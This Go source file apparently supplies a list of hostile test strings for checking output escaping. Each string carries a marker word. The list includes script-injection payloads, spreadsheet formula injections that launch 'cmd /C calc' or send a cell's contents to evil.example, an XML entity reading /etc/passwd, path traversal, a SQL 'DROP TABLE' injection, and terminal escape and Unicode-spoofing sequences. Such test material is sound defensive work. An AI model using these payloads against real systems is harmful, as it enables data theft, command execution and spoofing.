package hostile

import "strings"

// Mark is a word that stands in every hostile string, so that a test can tell
// whether a string has reached an output at all.
const Mark = "Zqvex"

// Case is one hostile string.
type Case struct {
	Kind string // what it tries to be, a word or two
	Text string
}

// Strings are tried in every place of a page and of the command line. Each has
// Mark somewhere.
var Strings = []Case{
	{"html", Mark + ` <script>alert(1)</script><img src=x onerror=alert(2)><iframe srcdoc="<p>x">`},
	{"html attribute", `" onmouseover="alert(1)" ` + Mark + ` ' onfocus='alert(2)' autofocus x="`},
	{"html comment", `--><script>alert(1)</script><!-- ` + Mark + ` ]]><script>alert(2)</script>`},
	{"html entity", Mark + ` &lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(2)&#62; &amp;lt;b&amp;gt;`},
	{"closing elements", `</title></style></textarea></script></svg></td></details><script>alert(1)</script> ` + Mark},
	{"svg", `<svg onload=alert(1)><a xlink:href="javascript:alert(2)"><text>` + Mark + `</text></a><animate onbegin=alert(3)></svg>`},
	{"css", `</style><style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y)} ` + Mark},
	{"css value", Mark + `;background:url(https://evil.example/x);expression(alert(1))`},
	{"javascript address", `javascript:alert(1)//` + Mark},
	{"data address", `data:text/html,<script>alert(1)</script>` + Mark},
	{"address of another host", `//evil.example/` + Mark + `"><img src=//evil.example/x>`},
	{"template", Mark + ` {{.}} {{template "x"}} ${alert(1)} <%= 7*7 %> {% raw %}`},
	{"markdown link", Mark + ` [x](javascript:alert(1)) ![x](https://evil.example/x.png) [y]: https://evil.example <https://evil.example>`},
	{"markdown html", Mark + ` <details open ontoggle=alert(1)> *a* _b_ ~~c~~ ` + "`d` ``` | e | # f"},
	{"markdown lines", Mark + "\n# head\n\n- item\n\n    code\n\n---\n\n| a | b |\n|---|---|\n"},
	{"formula =", `=HYPERLINK("https://evil.example/?"&A1,"` + Mark + `")`},
	{"formula +", `+` + Mark + `|' /C calc'!A0`},
	{"formula -", `-2+3+cmd|' /C calc'!A0 ` + Mark},
	{"formula @", `@SUM(1+1)*cmd|' /C calc'!A0 ` + Mark},
	{"formula after a tab", "\t=1+1 " + Mark},
	{"formula after a return", "\r=1+1 " + Mark},
	{"quotes of tables", `"` + Mark + "\",\"=1+1\"\t\"\n\"x"},
	{"xml", `]]><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x> ` + Mark + ` <![CDATA[`},
	{"json in a script", `</script><script>alert(1)</script>","x":"` + Mark + "\u2028\u2029 \\u003c \\\" <!--"},
	{"terminal colours", Mark + "\x1b[31mred\x1b[0m\x1b[2J\x1b[1;1Hhome\x1b[8mhidden"},
	{"terminal commands", Mark + "\x1b]0;title\x07\x1b]52;c;bHM=\x07\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\\x1bP$q\x1b\\\x1bc"},
	{"terminal controls", Mark + "\b\b\b\b\a\v\f\x0e\x0f\x7f\r\x1b"},
	{"C1 controls", Mark + "\u009b31m\u009d0;x\u009c\u0090x\u0085\u008d"},
	{"raw C1 bytes", Mark + "\x9b31m\x9d0;x\x9c\xff\xfe\xc0\xaf"},
	{"bidirectional", Mark + " \u202egnp.exe\u202c \u2066a\u2067b\u2069 \u200f\u200e\u061c\u202a\u202b\u202d"},
	{"invisible", "Zq\u200bvex " + Mark + "\u200b\u200c\u200d\u2060\ufeff\u00ad\U000e0041\U000e007f\u180e\ufff9a\ufffab\ufffb"},
	{"look-alikes", Mark + " \u0430dmin p\u0430ypal \u0391\u0412 ｓｃｒｉｐｔ ＜script＞"},
	{"combining", Mark + strings.Repeat("\u0301", 200)},
	{"nothing", Mark + "\x00\x00 after \x00"},
	{"paths", `../../../../etc/passwd ` + Mark + ` ..\..\x %2e%2e%2f`},
	{"sql", Mark + `'); DROP TABLE reports; -- " OR 1=1`},
	{"format", Mark + ` %s%n%x%!d(MISSING) %%`},
}

// Long is a string of n bytes with blanks in it.
func Long(n int) string {
	return Mark + strings.Repeat(" word", n/5)
}
